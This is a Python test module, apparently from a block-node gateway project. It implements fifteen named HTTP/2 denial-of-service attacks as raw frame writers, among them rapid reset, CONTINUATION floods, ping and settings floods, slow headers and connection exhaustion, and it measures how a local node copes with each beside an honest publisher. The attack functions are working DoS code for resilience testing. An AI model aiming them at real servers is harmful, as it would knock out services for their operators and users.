"""Attacks on a node's front door that gRPC core handles badly, beside honest publishers.

    python -m tests.attacks                           each beside a publisher, and its cost
    python -m tests.attacks NAME HOST:PORT SECONDS    one of them, against your node on this machine

They write HTTP/2 bytes, since no library sends such frames. Every attack ends after its time.
Source: RFC 9113; CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION), CVE-2019-9512 to 9518.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Final

import click
import hpack

from sluice.gateway.addresses import parse_address
from sluice.gateway.transport.frames import CLIENT_PREFACE, FrameKind, frame, window_update
from sluice.gateway.transport.header_blocks import header_frames

__all__ = ["ATTACKS", "attacking", "ended_within"]

HELLO: Final = CLIENT_PREFACE + frame(FrameKind.SETTINGS, 0, 0)
PUBLISH: Final = "/org.hiero.block.api.BlockStreamPublishService/publishBlockStream"
STRANGERS: Final = "127.0.0.2"
"""Their source address, on this machine."""


def request(path: str = PUBLISH) -> bytes:
    """Return the header block of a connection's first request."""
    return hpack.Encoder().encode(
        [
            (b":method", b"POST", True),
            (b":scheme", b"http", True),
            (b":path", path.encode(), True),
            (b":authority", b"node", True),
            (b"te", b"trailers", True),
            (b"content-type", b"application/grpc", True),
        ]
    )


class Stranger:
    """One connection, which ignores its end."""

    def __init__(self, address: tuple[str, int], hello: bytes = HELLO) -> None:
        self.socket = socket.create_connection(address, 10, (STRANGERS, 0))
        self.is_open = True
        self.send(hello)

    def send(self, data: bytes) -> bool:
        """Send, and drop what the node sends; False once the node has ended the connection."""
        try:
            self.socket.settimeout(5)
            self.socket.sendall(data)
            self.socket.settimeout(0)
            while self.is_open:
                if not self.socket.recv(1 << 16):
                    self.is_open = False
        except BlockingIOError:
            pass
        except OSError:
            self.is_open = False
        return self.is_open


def _repeat(data: Callable[[int], bytes], hello: bytes = HELLO) -> Callable[[tuple[str, int], float], None]:
    """Return an attack that sends the same again and again, and reconnects."""

    def attack(address: tuple[str, int], until: float) -> None:
        while time.monotonic() < until:
            stranger, count = Stranger(address, hello), 0
            while time.monotonic() < until and stranger.send(data(count)):
                count += 1
            stranger.socket.close()

    return attack


def headers_without_end(address: tuple[str, int], until: float) -> None:
    """Send HEADERS without END_HEADERS, then CONTINUATION for ever."""
    first = frame(FrameKind.HEADERS, 0, 1, request())
    more = frame(FrameKind.CONTINUATION, 0, 1, (b"\0\1a\x7f\xe1\x1e" + b"b" * 4_000) * 4)
    _repeat(lambda _: more, HELLO + first)(address, until)


def headers_byte_by_byte(address: tuple[str, int], until: float) -> None:
    """Send a header block at a byte a second."""
    strangers = [Stranger(address, HELLO + frame(FrameKind.HEADERS, 0, 1, request()[:4])) for _ in range(50)]
    while time.monotonic() < until:
        time.sleep(1)
        for stranger in strangers:
            stranger.send(frame(FrameKind.CONTINUATION, 0, 1, b""))


def rapid_reset(address: tuple[str, int], until: float) -> None:
    """Begin calls and reset them at once."""

    def calls(count: int) -> bytes:
        first = 2 * 100 * count + 1
        return b"".join(
            header_frames(first + 2 * at, request(), ends_stream=False)
            + frame(FrameKind.RST_STREAM, 0, first + 2 * at, b"\0\0\0\x08")
            for at in range(100)
        )

    _repeat(calls)(address, until)


def _crowd(hello: bytes) -> Callable[[tuple[str, int], float], None]:
    """Return an attack that keeps as many connections open as an address may have."""

    def attack(address: tuple[str, int], until: float) -> None:
        strangers: list[Stranger] = []
        while time.monotonic() < until:
            with suppress(OSError):
                while len(strangers) < 1_500 and time.monotonic() < until:
                    strangers.append(Stranger(address, hello))
            strangers = [stranger for stranger in strangers if stranger.send(b"")]
            time.sleep(0.05)

    return attack


def coming_and_going(address: tuple[str, int], until: float) -> None:
    """Connect and disconnect at once."""
    while time.monotonic() < until:
        with suppress(OSError):
            Stranger(address).socket.close()


def large_messages_that_do_not_come(address: tuple[str, int], until: float) -> None:
    """Begin a message of 125 MB on each of many streams, and send no more of it."""
    prefix = b"\0" + (125_000_000).to_bytes(4, "big") + b"x" * 100
    strangers = []
    for _ in range(16):
        stranger = Stranger(address)
        for at in range(60):
            stream_id = 2 * at + 1
            stranger.send(
                header_frames(stream_id, request(), ends_stream=False)
                + frame(FrameKind.DATA, 0, stream_id, prefix)
            )
        strangers.append(stranger)
    while time.monotonic() < until:
        time.sleep(0.2)
        for stranger in strangers:
            stranger.send(b"")


def answers_that_nobody_reads(address: tuple[str, int], until: float) -> None:
    """Send pings and read no answers, until the socket is full."""
    strangers = []
    ping = frame(FrameKind.PING, 0, 0, b"12345678") * 500
    for _ in range(20):
        sock = socket.create_connection(address, 10, (STRANGERS, 0))
        sock.settimeout(0.5)
        sock.sendall(HELLO)
        strangers.append(sock)
    while time.monotonic() < until:
        for sock in strangers:
            with suppress(OSError):
                sock.sendall(ping)
        time.sleep(0.01)


_PING = frame(FrameKind.PING, 0, 0, b"12345678")
_SETTINGS = frame(FrameKind.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")
_OPEN_CALL = HELLO + header_frames(1, request(), ends_stream=False)

ATTACKS: Final[dict[str, Callable[[tuple[str, int], float], None]]] = {
    "headers without end": headers_without_end,
    "headers byte by byte": headers_byte_by_byte,
    "rapid reset": rapid_reset,
    "pings": _repeat(lambda _: _PING * 1_000),
    "settings": _repeat(lambda _: _SETTINGS * 1_000),
    "empty data": _repeat(lambda _: frame(FrameKind.DATA, 0, 1) * 1_000, _OPEN_CALL),
    "tiny windows": _repeat(lambda _: window_update(1, 1) * 1_000, _OPEN_CALL),
    "priorities": _repeat(lambda count: frame(FrameKind.PRIORITY, 0, 2 * count + 3, b"\0\0\0\0\1") * 1_000),
    "unknown frames": _repeat(lambda _: frame(0x77, 0, 0, b"z" * 16_000)),
    "another protocol": _repeat(lambda _: b"GET / HTTP/1.1\r\n\r\n", b""),
    "connections that only greet": _crowd(HELLO),
    "connections that say nothing": _crowd(b""),
    "coming and going": coming_and_going,
    "large messages that do not come": large_messages_that_do_not_come,
    "answers that nobody reads": answers_that_nobody_reads,
}
"""The attacks by name."""


@contextmanager
def attacking(name: str, address: str, seconds: float) -> Iterator[subprocess.Popen[bytes]]:
    """Run an attack in a process of its own."""
    command = [sys.executable, "-m", "tests.attacks", name, address, str(seconds)]
    with subprocess.Popen(command, cwd=Path(__file__).parents[1]) as process:
        try:
            yield process
        finally:
            process.terminate()


def ended_within(sock: socket.socket, seconds: float) -> bool:
    """Return whether the node ends a connection in this time."""
    until = time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0:
        sock.settimeout(left)
        try:
            if not sock.recv(1 << 16):
                return True
        except TimeoutError:
            return False
        except OSError:
            return True
    return False


def _measure() -> None:
    """Run each attack beside a publisher that sends 20 blocks a second."""
    import uvloop

    from benchmarks.chains import make_chain
    from benchmarks.publish_processes import publish
    from sluice.publishers.demo.node_process import NodeProcess

    chain = make_chain(200, 250, 1_000)
    rate, names = 20.0, sys.argv[1:] or list(ATTACKS)
    for name in ["nobody", *names]:
        with tempfile.TemporaryDirectory() as folder:
            words = ["--ledger-key", chain.ledger_key]
            with NodeProcess(Path(folder, "data"), Path(folder, "log"), words) as node:
                before = node.metrics()["process_resident_memory_bytes"]
                if name == "nobody":
                    seconds = uvloop.run(publish(node.grpc, chain, blocks_per_second=rate))
                else:
                    with attacking(name, node.grpc, 12):
                        time.sleep(1)
                        seconds = uvloop.run(publish(node.grpc, chain, blocks_per_second=rate))
                metrics = node.metrics()
                grown = (metrics["process_resident_memory_bytes"] - before) / (1 << 20)
                seen = {
                    key: int(value)
                    for key, value in metrics.items()
                    if "connections_" in key and value and "created" not in key
                }
                click.echo(
                    f"{name:32} {len(chain.messages) / seconds:5.1f} blocks/s  +{grown:4.0f} MiB  {seen}"
                )


if __name__ == "__main__":
    if len(sys.argv) == 4 and ":" in sys.argv[2]:
        where = parse_address(sys.argv[2])
        ATTACKS[sys.argv[1]]((where.host, where.port), time.monotonic() + float(sys.argv[3]))
    else:
        _measure()
